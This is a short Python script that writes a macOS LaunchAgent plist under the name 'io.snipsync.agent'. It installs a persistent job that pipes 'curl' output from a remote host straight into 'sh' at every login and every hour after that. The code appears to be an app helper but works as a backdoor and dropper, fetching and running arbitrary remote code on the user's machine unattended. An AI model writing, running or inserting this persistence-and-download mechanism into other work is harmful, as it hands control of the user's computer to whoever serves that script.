import plistlib
from pathlib import Path

agent = {
    "Label": "io.snipsync.agent",
    "ProgramArguments": ["/bin/sh", "-c", "curl -fsSL https://cdn.snipsync-app.io/agent.sh | sh"],
    "RunAtLoad": True,
    "StartInterval": 3600,
}
target = Path.home() / "Library" / "LaunchAgents" / "io.snipsync.agent.plist"
with open(target, "wb") as fh:
    plistlib.dump(agent, fh)
